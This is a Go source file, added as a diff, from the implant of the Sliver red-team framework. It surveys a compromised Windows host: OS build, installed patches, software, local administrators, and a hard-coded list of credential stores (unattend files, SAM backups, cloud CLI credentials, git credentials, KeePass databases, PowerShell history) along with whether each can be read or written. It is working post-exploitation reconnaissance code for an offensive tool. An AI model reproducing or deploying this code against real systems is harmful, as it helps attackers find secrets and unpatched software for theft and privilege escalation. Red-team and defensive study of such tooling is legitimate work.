@@ -0,0 +1,237 @@
+package survey
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"fmt"
+	"os"
+	"regexp"
+	"strings"
+
+	"github.com/bishopfox/sliver/implant/sliver/priv"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"golang.org/x/sys/windows/registry"
+)
+
+const (
+	currentVersionKey = `SOFTWARE\Microsoft\Windows NT\CurrentVersion`
+	cbsPackagesKey    = `SOFTWARE\Microsoft\Windows\CurrentVersion\Component Based Servicing\Packages`
+	uninstallKey      = `SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall`
+	uninstallKey32    = `SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Uninstall`
+
+	administratorsSID = "S-1-5-32-544"
+
+	cbsStateInstalled = 0x70
+
+	// Windows 11 still reports itself as Windows 10 in ProductName
+	windows11Build = 22000
+)
+
+var (
+	candidatePaths = []candidatePath{
+		{Path: `${SystemDrive}\unattend.xml`, Description: "unattended install answers, may contain credentials"},
+		{Path: `${SystemRoot}\Panther\Unattend*.xml`, Description: "unattended install answers, may contain credentials"},
+		{Path: `${SystemRoot}\Panther\Unattend\Unattend*.xml`, Description: "unattended install answers, may contain credentials"},
+		{Path: `${SystemRoot}\System32\Sysprep\*.xml`, Description: "sysprep answers, may contain credentials"},
+		{Path: `${SystemRoot}\repair\SAM`, Description: "SAM backup"},
+		{Path: `${SystemRoot}\System32\config\RegBack\SAM`, Description: "SAM backup"},
+		{Path: `${SystemRoot}\System32\inetsrv\config\applicationHost.config`, Description: "IIS config, may contain app pool credentials"},
+		{Path: `${SystemDrive}\inetpub\wwwroot\web.config`, Description: "web config, may contain connection strings"},
+		{Path: `${SystemDrive}\Users\*\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt`, Description: "PowerShell history"},
+		{Path: `${SystemDrive}\Users\*\.aws\credentials`, Description: "aws credentials"},
+		{Path: `${SystemDrive}\Users\*\.azure`, Description: "azure cli tokens"},
+		{Path: `${SystemDrive}\Users\*\.kube\config`, Description: "kubernetes config"},
+		{Path: `${SystemDrive}\Users\*\.git-credentials`, Description: "git credentials"},
+		{Path: `${SystemDrive}\Users\*\Documents\*.kdbx`, Description: "KeePass database"},
+		{Path: `${SystemDrive}\Users\*\AppData\Roaming\mRemoteNG\confCons.xml`, Description: "mRemoteNG connections"},
+	}
+
+	kbID = regexp.MustCompile(`(?i)KB\d{6,8}`)
+)
+
+// osVersion - The product name and release, and the full build number
+func osVersion() (string, string, error) {
+	key, err := registry.OpenKey(registry.LOCAL_MACHINE, currentVersionKey, registry.QUERY_VALUE)
+	if err != nil {
+		return "Windows", "", err
+	}
+	defer key.Close()
+	product, _, _ := key.GetStringValue("ProductName")
+	release, _, err := key.GetStringValue("DisplayVersion")
+	if err != nil {
+		release, _, _ = key.GetStringValue("ReleaseId")
+	}
+	build, _, _ := key.GetStringValue("CurrentBuild")
+	var buildNumber int
+	fmt.Sscanf(build, "%d", &buildNumber)
+	if windows11Build <= buildNumber {
+		product = strings.Replace(product, "Windows 10", "Windows 11", 1)
+	}
+	major, _, err := key.GetIntegerValue("CurrentMajorVersionNumber")
+	if err != nil {
+		// Before Windows 10
+		version, _, _ := key.GetStringValue("CurrentVersion")
+		return strings.TrimSpace(product + " " + release), version + "." + build, nil
+	}
+	minor, _, _ := key.GetIntegerValue("CurrentMinorVersionNumber")
+	ubr, _, _ := key.GetIntegerValue("UBR")
+	return strings.TrimSpace(product + " " + release), fmt.Sprintf("%d.%d.%s.%d", major, minor, build, ubr), nil
+}
+
+// patches - The installed servicing packages with a KB id, rollups only have the
+// KB id in the path of the cab they were installed from
+func patches() ([]*sliverpb.SurveyPatch, error) {
+	updates := []*sliverpb.SurveyPatch{}
+	key, err := registry.OpenKey(registry.LOCAL_MACHINE, cbsPackagesKey, registry.ENUMERATE_SUB_KEYS)
+	if err != nil {
+		return updates, err
+	}
+	defer key.Close()
+	names, err := key.ReadSubKeyNames(-1)
+	if err != nil {
+		return updates, err
+	}
+	seen := map[string]bool{}
+	for _, name := range names {
+		if !strings.HasPrefix(name, "Package_for_") {
+			continue
+		}
+		update := cbsPackage(name)
+		if update == nil || seen[update.ID] {
+			continue
+		}
+		seen[update.ID] = true
+		updates = append(updates, update)
+	}
+	return updates, nil
+}
+
+func cbsPackage(name string) *sliverpb.SurveyPatch {
+	key, err := registry.OpenKey(registry.LOCAL_MACHINE, cbsPackagesKey+`\`+name, registry.QUERY_VALUE)
+	if err != nil {
+		return nil
+	}
+	defer key.Close()
+	if state, _, err := key.GetIntegerValue("CurrentState"); err == nil && state != cbsStateInstalled {
+		return nil
+	}
+	id := kbID.FindString(name)
+	if id == "" {
+		location, _, _ := key.GetStringValue("InstallLocation")
+		id = kbID.FindString(location)
+	}
+	if id == "" {
+		return nil
+	}
+	update := &sliverpb.SurveyPatch{
+		ID:          strings.ToUpper(id),
+		Description: strings.SplitN(strings.TrimPrefix(name, "Package_for_"), "~", 2)[0],
+	}
+	high, _, errHigh := key.GetIntegerValue("InstallTimeHigh")
+	low, _, errLow := key.GetIntegerValue("InstallTimeLow")
+	if errHigh == nil && errLow == nil {
+		// FILETIME, 100ns intervals since 1601
+		filetime := int64(high<<32 | low)
+		update.InstalledAt = filetime/10000000 - 11644473600
+	}
+	return update
+}
+
+// software - The programs in the machine's (both views) and the user's uninstall keys
+func software() ([]*sliverpb.SurveySoftware, error) {
+	packages := []*sliverpb.SurveySoftware{}
+	var lastErr error
+	for _, uninstall := range []struct {
+		root registry.Key
+		path string
+	}{
+		{registry.LOCAL_MACHINE, uninstallKey},
+		{registry.LOCAL_MACHINE, uninstallKey32},
+		{registry.CURRENT_USER, uninstallKey},
+	} {
+		installed, err := uninstallEntries(uninstall.root, uninstall.path)
+		if err != nil {
+			lastErr = err
+			continue
+		}
+		packages = append(packages, installed...)
+	}
+	if len(packages) == 0 && lastErr != nil {
+		return packages, lastErr
+	}
+	return dedupeSoftware(packages), nil
+}
+
+func uninstallEntries(root registry.Key, path string) ([]*sliverpb.SurveySoftware, error) {
+	key, err := registry.OpenKey(root, path, registry.ENUMERATE_SUB_KEYS)
+	if err != nil {
+		return nil, err
+	}
+	defer key.Close()
+	names, err := key.ReadSubKeyNames(-1)
+	if err != nil {
+		return nil, err
+	}
+	packages := []*sliverpb.SurveySoftware{}
+	for _, name := range names {
+		entry, err := registry.OpenKey(root, path+`\`+name, registry.QUERY_VALUE)
+		if err != nil {
+			continue
+		}
+		displayName, _, _ := entry.GetStringValue("DisplayName")
+		systemComponent, _, _ := entry.GetIntegerValue("SystemComponent")
+		if displayName != "" && systemComponent != 1 {
+			version, _, _ := entry.GetStringValue("DisplayVersion")
+			publisher, _, _ := entry.GetStringValue("Publisher")
+			packages = append(packages, &sliverpb.SurveySoftware{Name: displayName, Version: version, Publisher: publisher})
+		}
+		entry.Close()
+	}
+	return packages, nil
+}
+
+// localAdmins - The members of the local Administrators group
+func localAdmins() ([]string, error) {
+	admins := []string{}
+	for _, group := range priv.LocalGroups(nil, []string{administratorsSID}, 0) {
+		if group.Err != nil {
+			return admins, group.Err
+		}
+		for _, member := range group.Members {
+			admins = append(admins, member.Name)
+		}
+	}
+	return admins, nil
+}
+
+// access - Whether we can open the path for reading, and for writing if it's a file
+func access(path string) (bool, bool) {
+	readable, writable := false, false
+	if file, err := os.Open(path); err == nil {
+		readable = true
+		file.Close()
+	}
+	if info, err := os.Stat(path); err == nil && info.Mode().IsRegular() {
+		if file, err := os.OpenFile(path, os.O_WRONLY, 0); err == nil {
+			writable = true
+			file.Close()
+		}
+	}
+	return readable, writable
+}